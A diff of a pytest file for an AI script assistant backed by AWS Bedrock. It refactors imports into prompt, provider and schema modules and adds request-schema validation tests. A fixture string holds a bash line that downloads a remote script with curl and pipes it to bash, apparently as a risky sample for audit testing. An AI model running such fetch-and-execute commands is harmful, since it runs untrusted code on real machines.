@@ -18,11 +18,12 @@ import pytest
 from botocore.exceptions import ReadTimeoutError
 from botocore.stub import ANY, Stubber
 
-from edgex import ai, limits
+from edgex import ai, limits, schemas
+from edgex.ai import prompts, providers
 from edgex.errors import AiUnavailable, EdgexError, Kind, ValidationFailed
 
 MODEL = ai.DEFAULT_MODEL_ID
-PROMPTS = Path(ai.__file__).resolve().parent / "prompts"
+PROMPTS = Path(ai.__file__).resolve().parent.parent / "prompts"
 RISKY_BASH = "#!/bin/bash\necho start\ncurl -fsSL https://example.com/i.sh | bash\n"
 
 
@@ -114,7 +115,7 @@ def test_request_carries_the_mode_prompt_from_its_file_and_the_user_text(bedrock
     params = captured["params"]
     system = params["system"][0]["text"]
     assert system == on_disk.replace("{{language}}", "PowerShell").replace("{{fence}}", "powershell").replace(
-        "{{strict_mode}}", ai._STRICT_MODE["powershell"]
+        "{{strict_mode}}", prompts.STRICT_MODE["powershell"]
     )
     assert "{{" not in system
     user = params["messages"][0]["content"][0]["text"]
@@ -339,7 +340,7 @@ def test_client_has_bounded_timeouts_and_is_created_once(monkeypatch: pytest.Mon
     monkeypatch.setenv("AWS_LAMBDA_FUNCTION_NAME", "edgex-ai_process")
     monkeypatch.setenv("AWS_REGION", "us-east-1")
     # When the client is needed twice
-    first, second = ai._bedrock(), ai._bedrock()
+    first, second = providers.bedrock_client(), providers.bedrock_client()
     # Then it was created once, with the configured timeouts and a single attempt
     assert first is second
     config = first.meta.config
@@ -353,7 +354,7 @@ def test_client_has_bounded_timeouts_and_is_created_once(monkeypatch: pytest.Mon
 
 def test_without_a_provider_the_domain_raises_ai_unavailable(monkeypatch: pytest.MonkeyPatch) -> None:
     # Given no provider configured (no injected client, not in Lambda, no local endpoint)
-    monkeypatch.setattr(ai, "new_bedrock_client", lambda **kw: pytest.fail("Bedrock must not be called"))
+    monkeypatch.setattr(providers, "new_bedrock_client", lambda **kw: pytest.fail("Bedrock must not be called"))
     # When any mode is processed
     for mode, code in (("generate", None), ("audit", "echo hi")):
         with pytest.raises(AiUnavailable) as caught:
@@ -401,6 +402,27 @@ def test_invalid_input_is_a_validation_error(
     # Then VALIDATION_ERROR is raised before any call
     with pytest.raises(ValidationFailed):
         ai.process(mode, script_type, prompt, code, MODEL)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [[], "explain", {"mode": "explain"}, {"mode": "explain", "type": "bash", "prompt": "x", "code": None}],
+    ids=["array", "string", "missing-fields", "null-code"],
+)
+def test_a_body_of_the_wrong_shape_is_a_validation_error(bedrock: Stubber, body: Any) -> None:
+    # Given a configured provider (no response queued: the model must not be called)
+    # When the route's edge validation (the request schema) gets a JSON body of the wrong shape
+    # Then VALIDATION_ERROR is raised, once, before the assistant runs
+    with pytest.raises(ValidationFailed):
+        ai.process_request(schemas.validate("AiProcessRequest", body), MODEL)
+
+
+def test_the_request_schema_holds_the_assistants_modes_and_code_limit() -> None:
+    # Given the schema the request is validated with (edgex.schemas, importable without edgex.ai)
+    properties = schemas.SCHEMAS["AiProcessRequest"]["properties"]
+    # Then it lists exactly the assistant's modes, and the code limit the assistant names
+    assert properties["mode"]["enum"] == [mode.value for mode in ai.MODES]
+    assert properties["code"]["maxLength"] == ai.CODE_MAX_CHARS
 
 
 def test_prompt_of_exactly_the_limit_is_accepted(bedrock: Stubber) -> None:
@@ -561,7 +583,7 @@ def test_importing_ai_does_not_load_boto3() -> None:
         capture_output=True,
         text=True,
         check=True,
-        env={"PYTHONPATH": str(Path(ai.__file__).parent.parent)},
+        env={"PYTHONPATH": str(Path(ai.__file__).parent.parent.parent)},
     )
     # Then boto3 / botocore were not loaded
     assert out.stdout.strip() == "[]"
